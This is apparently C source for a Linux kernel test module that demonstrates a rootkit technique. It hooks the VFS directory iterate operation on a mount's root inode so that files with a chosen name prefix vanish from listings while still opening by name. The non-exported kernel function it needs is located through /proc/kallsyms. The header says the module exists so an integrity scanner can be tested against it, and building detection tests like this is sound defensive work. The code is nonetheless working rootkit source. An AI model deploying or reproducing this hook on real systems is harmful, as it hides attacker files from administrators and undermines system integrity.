// SPDX-License-Identifier: MIT
/*
 * rk_vfshide.c - TEST MODULE (rootkit technique): hide files from
 * directory listings by hooking the VFS.
 *
 * What Linux rootkits do to a filesystem's root directory (adore-ng's
 * readdir hook): the root inode of the mount at path= (default /mnt) gets
 * a copy of its file_operations whose iterate skips every name starting
 * with hide= (default "rk_"), passing the rest on to the original.  The
 * inode lives in the kernel's heap, so nothing stops the write; the files
 * vanish from ls but still open by name.  The mount is found through a
 * kernel function that is not exported, mount_at(), whose address
 * /proc/kallsyms gives (kallsyms_lookup.h); its layout comes from the
 * kernel's private header.  The integrity scanner finds the root
 * directory's iterate pointing into this module while the filesystem
 * belongs to another.  No exit function: the hook must stay valid.
 * Never installed; built for tests/security only.
 */
#define pr_fmt(fmt) KBUILD_MODNAME ": " fmt

#include "kallsyms_lookup.h"

#include "../../../kernel/internal.h"

static char *path = "/mnt";
module_param(path, charp, 0444);
static char *hide = "rk_";
module_param(hide, charp, 0444);

static const struct file_operations *rk_orig;
static struct file_operations rk_fops;

struct rk_dir_context {
	struct dir_context ctx;
	struct dir_context *outer;
};

static int rk_actor(struct dir_context *ctx, const char *name, size_t len,
		    unsigned long ino, unsigned int type)
{
	struct rk_dir_context *rk = (struct rk_dir_context *)ctx;
	size_t n = strlen(hide);

	if (len >= n && memcmp(name, hide, n) == 0)
		return 0; /* not here */
	return rk->outer->actor(rk->outer, name, len, ino, type);
}

static int rk_iterate(struct file *file, struct dir_context *ctx)
{
	struct rk_dir_context rk = { { rk_actor, ctx->pos }, ctx };
	int err = rk_orig->iterate(file, &rk.ctx);

	ctx->pos = rk.ctx.pos;
	return err;
}

static int __init rk_vfshide_init(void)
{
	struct vfsmount *(*find)(const char *) =
		(void *)rootkit_kallsyms("mount_at");
	struct vfsmount *m = find ? find(path) : NULL;
	struct inode *root;

	if (m == NULL || m->sb == NULL || m->sb->s_root == NULL) {
		pr_err("nothing mounted at %s\n", path);
		return -2;
	}
	root = m->sb->s_root;
	rk_orig = root->i_fop;
	if (rk_orig == NULL || rk_orig->iterate == NULL)
		return -22;
	rk_fops = *rk_orig;
	rk_fops.iterate = rk_iterate;
	root->i_fop = &rk_fops;
	pr_info("hiding %s* in %s\n", hide, path);
	return 0;
}

module_init(rk_vfshide_init);

MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("TEST ONLY: rootkit technique, hides files from listings");
